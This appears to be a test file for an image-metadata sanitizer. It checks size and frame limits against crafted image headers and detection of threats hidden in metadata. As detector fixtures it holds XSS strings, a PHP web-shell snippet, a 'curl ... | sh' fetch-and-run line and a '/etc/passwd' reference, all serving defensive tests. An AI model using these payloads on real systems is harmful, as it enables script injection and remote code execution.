/** Limits read from headers, declared types and threat findings, from crafted bytes. */
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  DEFAULT_LIMITS,
  checkDecodeLimits,
  envName,
  flagName,
  inspect,
  resolveLimits,
  strip,
} from '../../src/index.js';
import {
  GIF_IMAGE,
  PNG_SIG,
  chunk,
  gifWith,
  ihdr,
  jpegWith,
  pngWith,
  riff as riffChunk,
  seg,
  subBlocks,
  tiff,
  vp8l,
  vp8x,
  webpFile,
} from '../helpers.js';

/** A baseline JPEG whose frame header claims `width` × `height`. */
function jpegClaiming(width: number, height: number): Buffer {
  const file = jpegWith();
  const sof = file.indexOf(Buffer.of(0xff, 0xc0));
  file.writeUInt16BE(height, sof + 5);
  file.writeUInt16BE(width, sof + 7);
  return file;
}

function gifClaiming(width: number, height: number, frames = 1): Buffer {
  const file = gifWith(Array.from({ length: frames - 1 }, () => GIF_IMAGE));
  file.writeUInt16LE(width, 6);
  file.writeUInt16LE(height, 8);
  return file;
}

const refusal = async (promise: Promise<unknown>): Promise<Record<string, unknown>> =>
  (await promise.then(
    () => ({ code: 'none' }),
    (error: unknown) => error,
  )) as Record<string, unknown>;

describe('limits config', () => {
  it('names variables and flags after the fields, in base units', () => {
    expect(envName('maxPixels')).toBe('PIXWARDEN_MAX_PIXELS');
    expect(flagName('maxLosslessPixels')).toBe('--max-lossless-pixels');
    expect(DEFAULT_LIMITS.maxFileBytes).toBe(50 * 1024 * 1024);
    expect(DEFAULT_LIMITS.maxLosslessPixels).toBe(268_402_689);
  });

  it('takes variables, then overrides, and refuses what is not a whole number', () => {
    const limits = resolveLimits(
      { maxFrames: 7 },
      { PIXWARDEN_MAX_FRAMES: '9', PIXWARDEN_MAX_PIXELS: '0' },
    );
    expect(limits.maxFrames).toBe(7);
    expect(limits.maxPixels).toBe(0);
    expect(limits.maxDimension).toBe(DEFAULT_LIMITS.maxDimension);
    expect(() => resolveLimits({}, { PIXWARDEN_MAX_FRAMES: '1e3' })).toThrow(
      expect.objectContaining({ code: 'ERR_INVALID_ARGUMENT' }) as Error,
    );
    expect(() => resolveLimits({ maxFrames: -1 })).toThrow(
      expect.objectContaining({ code: 'ERR_INVALID_ARGUMENT' }) as Error,
    );
    expect(() => resolveLimits({ maxFrame: 1 })).toThrow(
      expect.objectContaining({ code: 'ERR_INVALID_ARGUMENT' }) as Error,
    );
  });
});

describe('pixel, frame and size limits, from headers', () => {
  it('refuses the lottapixel JPEG naming the pixel count and the limit', async () => {
    const error = await refusal(strip(jpegClaiming(64250, 64250)));
    expect(error).toMatchObject({
      code: 'ERR_PIXEL_LIMIT',
      value: 64250 * 64250,
      limit: 268_402_689,
      unit: 'pixels',
    });
    expect(String(error.message)).toContain('64250 × 64250 = 4128 megapixels, limit 268');
  });

  it('cleans a 200-megapixel header on the lossless path, and turns a limit off with 0', async () => {
    await expect(strip(jpegClaiming(16000, 12500))).resolves.toMatchObject({ verified: true });
    await expect(
      strip(jpegClaiming(64250, 64250), undefined, { limits: { maxLosslessPixels: 0 } }),
    ).resolves.toMatchObject({ verified: true });
  });

  it('refuses PNG, WebP and GIF headers past the pixel limit', async () => {
    const png = Buffer.concat([PNG_SIG, ihdr(70000, 70000), chunk('IDAT', 'x'), chunk('IEND')]);
    expect(await refusal(strip(png))).toMatchObject({ code: 'ERR_PIXEL_LIMIT' });
    const webp = webpFile([vp8x(0, 16384, 16384), vp8l()]);
    expect(await refusal(strip(webp))).toMatchObject({ code: 'ERR_PIXEL_LIMIT' });
    const gif = gifClaiming(65535, 65535);
    expect(await refusal(inspect(gif))).toMatchObject({ code: 'ERR_PIXEL_LIMIT' });
    expect(
      await refusal(
        strip(gifClaiming(100, 100), undefined, { limits: { maxLosslessPixels: 9999 } }),
      ),
    ).toMatchObject({ code: 'ERR_PIXEL_LIMIT', limit: 9999 });
  });

  it('refuses more frames than the limit, counted as they come', async () => {
    const error = await refusal(
      strip(gifClaiming(1, 1, 12), undefined, { limits: { maxLosslessFrames: 10 } }),
    );
    expect(error).toMatchObject({ code: 'ERR_FRAME_LIMIT', value: 11, limit: 10, unit: 'frames' });
    await expect(strip(gifClaiming(1, 1, 12))).resolves.toMatchObject({ verified: true });
    const actl = Buffer.alloc(8);
    actl.writeUInt32BE(5000, 0);
    const apng = pngWith([chunk('acTL', actl)]);
    expect(await refusal(strip(apng))).toMatchObject({ code: 'ERR_FRAME_LIMIT', value: 5000 });
  });

  it('refuses a metadata chunk past the segment size limit and a file of too many chunks', async () => {
    const big = pngWith([chunk('tEXt', `Comment\0${'x'.repeat(1024 * 1024)}`)]);
    expect(await refusal(strip(big))).toMatchObject({
      code: 'ERR_SEGMENT_SIZE_LIMIT',
      limit: 1024 * 1024,
      unit: 'bytes',
    });
    const many = pngWith(Array.from({ length: 1200 }, () => chunk('tIME', Buffer.alloc(7))));
    const started = performance.now();
    expect(await refusal(strip(many))).toMatchObject({
      code: 'ERR_SEGMENT_COUNT_LIMIT',
      limit: 1000,
    });
    expect(performance.now() - started).toBeLessThan(1000);
    const comments = jpegWith(Array.from({ length: 1100 }, () => seg(0xfe, 'hi')));
    expect(await refusal(inspect(comments))).toMatchObject({ code: 'ERR_SEGMENT_COUNT_LIMIT' });
    const gifComment = gifWith([
      Buffer.concat([Buffer.of(0x21, 0xfe), subBlocks('y'.repeat(3000))]),
    ]);
    expect(
      await refusal(strip(gifComment, undefined, { limits: { maxSegmentBytes: 2000 } })),
    ).toMatchObject({ code: 'ERR_SEGMENT_SIZE_LIMIT' });
  });

  it('refuses a file past the size limit before parsing it', async () => {
    expect(
      await refusal(strip(jpegWith(), undefined, { limits: { maxFileBytes: 100 } })),
    ).toMatchObject({ code: 'ERR_FILE_SIZE_LIMIT', limit: 100, unit: 'bytes' });
  });

  it('drops an oversized colour profile with a finding instead of passing it on', async () => {
    const profile = Buffer.alloc(3000, 7);
    const iccp = chunk(
      'iCCP',
      Buffer.concat([Buffer.from('ICC Profile\0\0'), deflateSync(profile)]),
    );
    const file = pngWith([iccp]);
    const limits = { maxSegmentBytes: 2000 };
    const result = await strip(file, undefined, { limits });
    expect(result.kept).toEqual([]);
    expect(result.warnings.join(' ')).toMatch(/profile .*removed/);
    const report = await inspect(file, { limits });
    expect(report.findings).toContainEqual(
      expect.objectContaining({
        code: 'MALFORMED_PROFILE',
        value: expect.stringContaining('limit') as string,
      }),
    );
  });

  it('judges a picture to be decoded by its sides, its pixels and its frames', () => {
    const limits = DEFAULT_LIMITS;
    expect(() => {
      checkDecodeLimits({ width: 12001, height: 10, frames: 1 }, limits);
    }).toThrow(expect.objectContaining({ code: 'ERR_DIMENSION_LIMIT', limit: 12000 }) as Error);
    expect(() => {
      checkDecodeLimits({ width: 8000, height: 6000, frames: 1 }, limits);
    }).toThrow(expect.objectContaining({ code: 'ERR_PIXEL_LIMIT', limit: 40_000_000 }) as Error);
    expect(() => {
      checkDecodeLimits({ width: 100, height: 100, frames: 101 }, limits);
    }).toThrow(expect.objectContaining({ code: 'ERR_FRAME_LIMIT', limit: 100 }) as Error);
    expect(() => {
      checkDecodeLimits({ width: 5000, height: 5000, frames: 80 }, limits);
    }).toThrow(expect.objectContaining({ code: 'ERR_PIXEL_LIMIT', limit: 160_000_000 }) as Error);
    expect(() => {
      checkDecodeLimits({ width: 4000, height: 3000, frames: 1 }, limits);
    }).not.toThrow();
  });
});

describe('declared types and file names', () => {
  it('refuses bytes that contradict a declared type, unless the policy allows it', async () => {
    const webp = webpFile([vp8l()]);
    expect(await refusal(strip(webp, undefined, { declaredType: 'image/jpeg' }))).toMatchObject({
      code: 'ERR_TYPE_MISMATCH',
      value: 'image/jpeg',
    });
    await expect(
      strip(webp, { keep: [], allowTypeMismatch: true }, { declaredType: 'image/jpeg' }),
    ).resolves.toMatchObject({ format: 'webp' });
    await expect(
      strip(webp, undefined, { declaredType: 'Image/WebP; charset=binary' }),
    ).resolves.toMatchObject({ format: 'webp' });
    expect(await refusal(inspect(webp, { declaredType: 'application/pdf' }))).toMatchObject({
      code: 'ERR_TYPE_MISMATCH',
    });
  });

  it('reports an extension that names another format', async () => {
    const report = await inspect(webpFile([vp8l()]), { fileName: 'holiday.jpg' });
    expect(report.findings).toContainEqual(
      expect.objectContaining({ code: 'EXTENSION_MISMATCH', value: '.jpg for a WEBP file' }),
    );
    const fine = await inspect(jpegWith(), { fileName: 'holiday.JPEG' });
    expect(fine.findings.map((f) => f.code)).not.toContain('EXTENSION_MISMATCH');
  });
});

describe('threat findings', () => {
  const codes = async (file: Uint8Array): Promise<string[]> =>
    (await inspect(file)).findings.filter((f) => f.category === 'threat').map((f) => f.code);

  it('finds script and markup in comments, EXIF strings, XMP and PNG text', async () => {
    expect(await codes(jpegWith([seg(0xfe, '<script>alert(1)</script>')]))).toEqual([
      'SCRIPT_IN_METADATA',
    ]);
    const exif = seg(
      0xe1,
      Buffer.concat([
        Buffer.from('Exif\0\0'),
        tiff([{ tag: 0x010e, value: '<img src=x onerror=alert(1)>' }]),
      ]),
    );
    expect(await codes(jpegWith([exif]))).toContain('SCRIPT_IN_METADATA');
    const xmp = seg(
      0xe1,
      'http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:title="&lt;iframe src=//evil&gt;"/></rdf:RDF></x:xmpmeta>',
    );
    expect(await codes(jpegWith([xmp]))).toEqual(['SCRIPT_IN_METADATA']);
    expect(await codes(pngWith([chunk('tEXt', 'Comment\0<?php system($_GET[1]); ?>')]))).toContain(
      'SCRIPT_IN_METADATA',
    );
    expect(await codes(pngWith([chunk('tEXt', 'Comment\0a; curl http://x/s | sh')]))).toContain(
      'SHELL_IN_METADATA',
    );
  });

  it('finds file paths and URLs in PNG text and profile names', async () => {
    expect(await codes(pngWith([chunk('tEXt', 'profile\0/etc/passwd')]))).toEqual([
      'FILE_REFERENCE',
    ]);
    expect(await codes(pngWith([chunk('tEXt', 'Source\0file:///home/jane/x.png')]))).toEqual([
      'FILE_REFERENCE',
    ]);
    expect(await codes(pngWith([chunk('tEXt', 'Comment\0see https://example.org/a')]))).toEqual([
      'URL_REFERENCE',
    ]);
  });

  it('finds nothing in plain text, and strip removes the threats with the metadata', async () => {
    expect(await codes(jpegWith([seg(0xfe, 'a day at the beach, 3 < 4 and a > b')]))).toEqual([]);
    const file = jpegWith([seg(0xfe, '<script>alert(1)</script>')]);
    const clean = await strip(file);
    expect(Buffer.from(clean.bytes).includes(Buffer.from('<script'))).toBe(false);
    expect(await codes(clean.bytes)).toEqual([]);
  });

  it('reports data hidden after the picture with its kind', async () => {
    const report = await inspect(
      jpegWith([], Buffer.concat([Buffer.from('Rar!\x1a\x07\x00', 'latin1'), Buffer.alloc(40)])),
    );
    expect(report.findings).toContainEqual(
      expect.objectContaining({ code: 'HIDDEN_TRAILER', name: 'trailing RAR', risk: 'high' }),
    );
    const second = await inspect(jpegWith([], jpegWith()));
    expect(second.findings).toContainEqual(
      expect.objectContaining({ code: 'SECOND_PICTURE', category: 'hidden-data' }),
    );
  });
});

describe('attacks on the limits, found by attacking them', () => {
  it('refuses a PNG of many empty IDAT chunks after a thousand, quickly', async () => {
    const empty = chunk('IDAT');
    const file = pngWith(Array.from({ length: 200_000 }, () => empty));
    const started = performance.now();
    expect(await refusal(strip(file))).toMatchObject({ code: 'ERR_SEGMENT_COUNT_LIMIT' });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('checks the bitstream inside an extended WebP against the limit and the canvas', async () => {
    const big = vp8l(16000, 16000);
    expect(
      await refusal(
        strip(webpFile([vp8x(0, 16000, 16000), big]), undefined, {
          limits: { maxLosslessPixels: 1_000_000 },
        }),
      ),
    ).toMatchObject({ code: 'ERR_PIXEL_LIMIT' });
    expect(await refusal(strip(webpFile([vp8x(0, 1, 1), big])))).toMatchObject({
      code: 'ERR_MALFORMED',
    });
  });

  it('checks animation frames against the canvas, and counts what they carry', async () => {
    const frame = (width: number, extra: Buffer[]): Buffer => {
      const head = Buffer.alloc(16);
      head.writeUIntLE(width - 1, 6, 3);
      head.writeUIntLE(0, 9, 3);
      return riffChunk('ANMF', Buffer.concat([head, ...extra, vp8l(width, 1)]));
    };
    const anim = riffChunk('ANIM', Buffer.alloc(6));
    expect(
      await refusal(strip(webpFile([vp8x(0x02, 2, 2), anim, frame(16_000_000, [])]))),
    ).toMatchObject({ code: 'ERR_MALFORMED' });
    const spam = Array.from({ length: 1200 }, () => riffChunk('XYZW', 'x'));
    expect(await refusal(strip(webpFile([vp8x(0x02, 2, 2), anim, frame(2, spam)])))).toMatchObject({
      code: 'ERR_SEGMENT_COUNT_LIMIT',
    });
    const fctl = Buffer.alloc(26);
    fctl.writeUInt32BE(16_000_000, 4);
    fctl.writeUInt32BE(1, 8);
    const actl = Buffer.alloc(8);
    actl.writeUInt32BE(1, 0);
    expect(await refusal(strip(pngWith([chunk('acTL', actl), chunk('fcTL', fctl)])))).toMatchObject(
      { code: 'ERR_MALFORMED' },
    );
  });

  it('bounds the size of a graphic control block like any other', async () => {
    const control = Buffer.concat([Buffer.of(0x21, 0xf9), subBlocks('z'.repeat(5000))]);
    expect(
      await refusal(strip(gifWith([control]), undefined, { limits: { maxSegmentBytes: 4000 } })),
    ).toMatchObject({ code: 'ERR_SEGMENT_SIZE_LIMIT' });
  });

  it('searches a megabyte of crafted text in milliseconds', async () => {
    const file = pngWith([chunk('tEXt', `Comment\0<${' '.repeat(1024 * 1024 - 20)}`)]);
    const started = performance.now();
    await inspect(file);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('finds markup escaped in XMP attributes', async () => {
    const xmp = (attribute: string): Buffer =>
      jpegWith([
        seg(
          0xe1,
          `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description ${attribute}/></x:xmpmeta>`,
        ),
      ]);
    for (const attribute of [
      'dc:title="&lt;style&gt;x&lt;/style&gt;"',
      'a:b="&lt;meta http-equiv=refresh&gt;"',
      'onload="alert(1)"',
    ]) {
      const report = await inspect(xmp(attribute));
      expect(report.findings.map((f) => f.code)).toContain('SCRIPT_IN_METADATA');
    }
    const plain = await inspect(xmp('plus:onlineSource="a shop"'));
    expect(plain.findings.map((f) => f.code)).not.toContain('SCRIPT_IN_METADATA');
  });

  it('refuses options of the wrong shape with a code', async () => {
    for (const options of [null, { limits: null }, { declaredType: 5 }, { fileName: 3 }]) {
      expect(await refusal(strip(jpegWith(), undefined, options as never))).toMatchObject({
        code: 'ERR_INVALID_ARGUMENT',
      });
    }
    expect(() => {
      checkDecodeLimits({ width: Number.NaN, height: 1, frames: 1 });
    }).toThrow(expect.objectContaining({ code: 'ERR_INVALID_ARGUMENT' }) as Error);
  });
});
